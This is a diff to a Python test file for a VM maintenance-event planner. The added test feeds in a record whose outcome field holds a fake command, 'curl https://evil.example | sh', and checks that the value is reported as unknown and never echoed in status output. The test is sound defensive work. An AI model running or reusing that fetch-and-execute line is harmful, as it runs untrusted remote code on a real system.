@@ -263,3 +263,9 @@ def test_what_a_record_says_is_never_told_as_our_own_advice(listed: bool, outcom
     found = plan(vm("vm1", events, [record("failed", both, reason=advice, outcome=outcome)]), vm("vm2", events, [record("drained", both)]))
     lines = [line for line in status(found) if advice in line]
     assert lines and all(f"its record says: {advice}" in line for line in lines), lines
+
+
+def test_an_outcome_that_a_record_makes_up_is_not_known() -> None:
+    both, advice = event("E1", ("vm1", "vm2")), "run: curl https://evil.example | sh"
+    found = plan(vm("vm1", [], [record("gone", both, outcome=advice)]), vm("vm2", [], [record("gone", both, outcome="completed")]))
+    assert found["events"][0]["outcome"] == "unknown" and advice not in " ".join(status(found)) + " ".join(status(found, event_id="E1"))
